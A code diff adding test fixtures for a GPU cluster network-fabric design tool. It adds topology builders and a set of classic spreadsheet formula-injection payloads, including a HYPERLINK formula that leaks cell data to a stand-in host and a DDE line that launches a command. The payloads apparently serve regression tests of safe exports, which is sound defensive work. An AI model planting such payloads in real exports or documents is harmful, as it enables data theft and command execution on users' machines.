@@ -2,7 +2,9 @@ import fc from 'fast-check';
 import type { Catalog } from '../../src/model/catalog';
 import { CatalogSchema } from '../../src/model/catalog';
 import type { Design, Result } from '../../src/model/result';
-import type { Scenario } from '../../src/model/scenario';
+import { ScenarioSchema, type Scenario } from '../../src/model/scenario';
+import { defaultCatalog } from '../../src/catalog/default';
+import { optimize } from '../../src/topology/optimize';
 import { exportSubject, type ExportSubject } from '../../src/export/fabric';
 import { materialize } from '../../src/topology/materialize';
 
@@ -167,3 +169,55 @@ export function hostileSubject(f: Fixture, base: Catalog, t: HostileTexts): Expo
   if (!s.ok) throw new Error(s.message);
   return s.value;
 }
+
+function optimized(label: string, input: object): Fixture {
+  const scenario = ScenarioSchema.parse(input);
+  const r = optimize(scenario, defaultCatalog);
+  if (!r.ok || !r.result.candidates[0]) throw new Error(`${label}: no design (${r.ok ? 'no candidates' : r.reason})`);
+  return { label, scenario, design: r.result.candidates[0].design, result: r.result };
+}
+
+/** Three small designs of the default catalog: 2-tier InfiniBand, 2-plane Ethernet, 3-tier InfiniBand (pods and cores). */
+export function smallFixtures(): Fixture[] {
+  const ib = optimized('2-tier rail-optimized InfiniBand, 64 GPUs', { cluster: { gpus: 64 }, fabric: { technologies: ['infiniband'], families: ['rail-optimized'], maxTiers: 2 }, search: { topK: 1 } });
+  const eth = optimized('2-plane rail-optimized Ethernet, 32 GPUs', { cluster: { gpus: 32, serverProfile: 'hgx-b300-8x800g' }, fabric: { technologies: ['ethernet'], planes: [2], families: ['rail-optimized'], maxTiers: 2 }, search: { topK: 1 } });
+  // The smallest 3-tier fabric of the default catalog, too costly for the optimizer to rank first.
+  const scenario = ScenarioSchema.parse({ cluster: { gpus: 64 }, fabric: { technologies: ['infiniband'], maxTiers: 3 } });
+  const design: Design = {
+    family: 'fat-tree', technology: 'infiniband', planes: 1, nodesPerLeafGroup: 1, spinesPerPod: 1, leavesPerPod: 4,
+    tiers: [
+      { switchId: 'QM9700', portModeId: '64x400G', downPorts: 8, upPorts: 8 },
+      { switchId: 'QM9700', portModeId: '64x400G', downPorts: 32, upPorts: 32 },
+      { switchId: 'QM9700', portModeId: '64x400G', downPorts: 0, upPorts: 0 },
+    ],
+  };
+  const m = materialize(scenario, defaultCatalog, design);
+  if (!m.ok) throw new Error(`3-tier fixture does not build: ${m.reason}`);
+  const result: Result = { ...ib.result, scenario, candidates: [m.candidate], pareto: [] };
+  return [ib, eth, { label: '3-tier fat-tree InfiniBand, 64 GPUs', scenario, design: m.candidate.design, result }];
+}
+
+/** A fixed set of the classic payloads, one per field, for the regression tests. */
+export const CLASSIC_TEXTS: HostileTexts = {
+  switchModel: '=HYPERLINK("http://x.example/?"&A2,"Click")',
+  switchName: "+cmd|' /C calc'!A0",
+  switchVendor: '@SUM(1+1)',
+  portModeId: '-2+3',
+  opticModel: '\t=1',
+  opticName: '\r=1',
+  opticVendor: '@SUM(1+1)',
+  cableModel: '-2+3',
+  cableName: '=1+1',
+  cableVendor: "+cmd|' /C calc'!A0",
+  nicModel: '=1',
+  partNotes: '=1',
+  offerVendor: '@SUM(1+1)',
+  offerNotes: '=HYPERLINK("http://x.example/?"&A2,"Click")',
+  profileName: '=1',
+  recipeName: '=1',
+  scenarioName: '=1',
+  catalogName: '=HYPERLINK("http://x.example/")',
+  generator: '=1',
+  candidateId: '-1',
+  currency: '=USD',
+};
